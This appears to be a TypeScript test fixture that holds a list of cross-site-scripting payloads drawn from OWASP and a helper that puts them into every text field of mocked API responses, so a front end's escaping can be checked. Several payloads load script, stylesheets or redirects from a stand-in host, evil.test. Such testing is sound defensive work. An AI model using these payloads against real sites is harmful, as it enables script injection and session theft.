const RUN = 'window.__xss=1'

/** Ways to have a text run as a script, after OWASP's list; each would leave its mark as `window.__xss`. */
export const HOSTILE_TEXTS: readonly string[] = [
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script src=https://evil.test/x.js></script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=x onerror="${RUN}"//`,
  `"><img src=x onerror=${RUN}>`,
  `'><svg/onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<body onload=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<video><source onerror="${RUN}"></video>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<math href="javascript:${RUN}">x</math>`,
  `<object data="javascript:${RUN}"></object>`,
  `<base href="https://evil.test/">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.test/">`,
  `<link rel=stylesheet href=https://evil.test/x.css>`,
  `<style>@import 'https://evil.test/x.css';</style>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `--><script>${RUN}</script>`,
  `javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `{{constructor.constructor('${RUN}')()}}`,
  `$t(error.retry) {{name}} <b>bold</b>`,
  `\${${RUN}}`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `url('javascript:${RUN}')`,
]

/** What a page needs to find its way: who, which, when, and of what kind. */
const KEPT_KEY =
  /^(id|\w+Ids?|user|activityName|status|role|language|timeZone|unitSystem|country|region|key|kind|type|unit|units|quantity|allowedActivityNames|access_token|refresh_token)$/
const DATE = /^\d{4}-\d\d-\d\d(T|$)/

/** Puts a hostile text in place of every other text of an answer; the next one each time. */
export function hostile(): (body: unknown) => unknown {
  let next = 0
  const change = (value: unknown, key: string): unknown => {
    if (Array.isArray(value)) return KEPT_KEY.test(key) ? value : value.map((one) => change(one, key))
    if (typeof value === 'object' && value !== null)
      return Object.fromEntries(Object.entries(value).map(([name, one]) => [name, change(one, name)]))
    if (typeof value !== 'string' || KEPT_KEY.test(key) || DATE.test(value)) return value
    next += 1
    return HOSTILE_TEXTS[next % HOSTILE_TEXTS.length]
  }
  return (body) => change(body, '')
}
